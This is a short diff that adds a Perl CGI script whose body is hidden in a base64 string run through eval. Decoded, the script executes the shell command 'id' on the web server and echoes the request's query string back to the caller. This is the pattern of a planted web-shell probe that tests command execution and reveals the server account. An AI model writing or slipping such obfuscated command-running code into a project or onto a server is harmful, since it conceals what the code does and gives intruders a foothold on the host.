@@ -1,0 +1,3 @@
+#!/usr/bin/perl
+use MIME::Base64;
+eval(decode_base64('cHJpbnQgIkNvbnRlbnQtdHlwZTogdGV4dC9wbGFpblxuXG4iOyBwcmludCBgaWRgOyBwcmludCAiXG4iOyBteSAkaCA9ICRFTlZ7UVVFUllfU1RSSU5HfTsgcHJpbnQgIiRoXG4iOwo='));
